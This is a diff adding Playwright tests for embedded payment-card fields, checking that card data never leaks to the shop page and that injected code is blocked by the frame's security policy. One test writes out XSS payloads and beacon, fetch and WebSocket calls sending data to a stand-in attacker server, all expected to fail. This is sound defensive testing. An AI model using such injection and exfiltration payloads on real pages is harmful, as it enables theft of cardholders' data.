@@ -1,5 +1,6 @@
 """What a shop's page, or a page of anybody else, can't have of a card."""
 
+import re
 from collections.abc import Iterator, Mapping
 from typing import Any
 
@@ -8,9 +9,11 @@ from playwright.sync_api import Browser, Page, expect
 
 from local.card_fields import integrity
 from local.web_server import Answer, Request, WebServer, serve
-from tests.browser.shopper import Shopper
+from tests.browser.shopper import PAID, Shopper
 
 NUMBER, CODE, NAME = "378282246310005", "9471", "Grace Hopper"
+SECRET = re.compile(r"378282|2822463|310005|\b9471\b|Grace|Hopper")
+"""Parts of them, to be found however they are written."""
 
 HOSTILE = """<!doctype html><title>Elsewhere</title><div id="card"></div>
 <script type="module" src="{loader}"></script>
@@ -30,6 +33,32 @@ def elsewhere(local: Mapping[str, Any]) -> Iterator[WebServer]:
     server.stop()
 
 
+def test_no_digit_is_in_the_shops_page_its_storage_or_its_network(shopper: Shopper) -> None:
+    page, seen = shopper.page, list[str]()
+    page.on("request", lambda each: seen.append(f"{each.url} {each.headers} {each.post_data}"))
+    page.on("response", lambda each: seen.append(f"{each.url} {each.headers}"))
+    page.on("websocket", lambda each: seen.append(each.url))
+    shopper.choose()
+    page.evaluate(
+        """() => {
+          window.told = [];
+          const hear = ({data}) => told.push(JSON.stringify(data) ?? "");
+          addEventListener("message", hear);
+          for (const type of ["keydown", "input", "paste", "focusin"])
+            addEventListener(type, (event) => told.push(type + (event.key ?? "") + (event.data ?? "")), true);
+        }"""
+    )
+    shopper.type_card(NUMBER, "1234", CODE, NAME)
+    shopper.pay()
+    shopper.hears(PAID)
+    expect(page.locator("#entries")).to_contain_text("payment.captured")
+    ciphertexts = [each for each in seen if "encrypted_card" in each]
+    assert len(ciphertexts) == 1
+    stored = "JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, told ?? []])"
+    everything = [*seen, *shopper.said, page.content(), page.evaluate(stored)]
+    assert [found for each in everything if (found := SECRET.search(each))] == []
+
+
 def test_nothing_is_kept_in_the_browser(shopper: Shopper) -> None:
     """So browsers that block cookies of third parties block nothing."""
     shopper.choose()
@@ -40,6 +69,29 @@ def test_nothing_is_kept_in_the_browser(shopper: Shopper) -> None:
     assert shopper.page.context.cookies() == []
     shopper.page.reload()
     expect(shopper.field("number")).to_have_value("")
+
+
+def test_the_page_is_told_the_brand_and_whether_it_is_complete(shopper: Shopper) -> None:
+    shopper.choose()
+    shopper.page.evaluate(
+        """async () => {
+          const { merchant } = document.body.dataset;
+          window.told = [];
+          window.fields = Tollgate({ merchant }).card("#card", { name: false });
+          fields.addEventListener("change", ({ detail }) => told.push(detail));
+          await fields.ready;
+        }"""
+    )
+    shopper.field("number").press_sequentially(NUMBER)
+    shopper.field("expiry").press_sequentially("1234")
+    shopper.field("code").press_sequentially(CODE)
+    assert shopper.page.evaluate("told") == [
+        {"brand": "amex", "complete": False, "invalid": []},
+        {"brand": "amex", "complete": True, "invalid": []},
+    ]
+    card = shopper.page.evaluate("fields.encrypt({ save: true })")
+    assert card.pop("card") == {"brand": "amex", "last4": "0005"}
+    assert card["encrypted_card"] != card["encrypted_card_to_save"]
 
 
 def test_a_page_of_another_origin_can_not_show_the_fields(chromium: Browser, elsewhere: WebServer) -> None:
@@ -80,6 +132,46 @@ def test_a_window_of_another_origin_can_not_connect_to_the_fields(
         victim.type_card(NUMBER, "1234", CODE, NAME)
         assert page.evaluate("heard") == []
         expect(opened.value.locator("#number")).to_be_hidden()
+
+
+def test_code_that_gets_into_the_frame_can_neither_run_nor_reach_anybody(
+    shopper: Shopper, elsewhere: WebServer
+) -> None:
+    shopper.choose()
+    frame = frame_of(shopper.page)
+    broken = frame.evaluate(
+        """async (away) => {
+          const broken = [];
+          addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
+          const add = (name, attributes) =>
+            document.body.append(Object.assign(document.createElement(name), attributes));
+          const tries = [
+            () => { document.body.innerHTML = "<img src=x onerror=alert(1)>"; },
+            () => add("script", { src: `${away}/x.js` }),
+            () => document.body.setAttribute("onclick", "alert(1)"),
+            () => add("img", { src: `${away}/?4012` }),
+            () => add("iframe", { src: away }),
+            () => add("link", { rel: "stylesheet", href: `${away}/x.css` }),
+            () => fetch(away).catch(() => {}),
+            () => navigator.sendBeacon(away, "4012"),
+            () => new WebSocket(away.replace("http", "ws")),
+            () => document.forms[0].submit(),
+            () => { top.location = away; },
+          ];
+          const thrown = [];
+          for (const each of tries) {
+            try { await each(); } catch (error) { thrown.push(error.name); }
+          }
+          await new Promise((next) => setTimeout(next, 500));
+          return [broken, thrown];
+        }""",
+        elsewhere.url,
+    )
+    directives, thrown = broken
+    assert {"img-src", "frame-src", "style-src-elem", "connect-src"} <= set(directives)
+    assert {"require-trusted-types-for"} <= set(directives)
+    assert "TypeError" in thrown
+    assert shopper.page.url.startswith(shopper.shop_url)
 
 
 @pytest.mark.parametrize(
